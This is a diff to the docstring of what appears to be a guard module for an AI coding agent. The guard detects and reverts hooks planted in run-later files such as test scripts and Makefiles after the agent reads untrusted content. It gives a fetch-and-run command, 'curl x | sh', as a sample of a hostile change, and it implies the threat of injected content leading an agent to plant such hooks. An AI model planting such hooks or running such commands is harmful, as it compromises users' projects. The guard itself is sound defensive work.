@@ -9,7 +9,7 @@ includes...). Two uses:
   part (`scripts.test: "jest" -> "curl x | sh"`, a Makefile's changed lines), told once after the turn
   (`remember` at the session's start, `report` after each turn: a file is told again only if it changed again);
 - in a tainted turn (untrusted content taken in) a change to such a file that existed is a planted hook (a new
-  one is only reported): the run-later guard puts a confined command's change back (guardverdict, class "byhand", `Guard.tainted`) and hermes's own write asks
+  one only when a tool of the project already loads it: byhandnew.py): the run-later guard puts a confined command's change back (guardverdict, class "byhand", `Guard.tainted`) and hermes's own write asks
   or, in `chat -q`, is refused (runlater.path_verdict).
 
 Stdlib only; the parsers are guardtools'."""
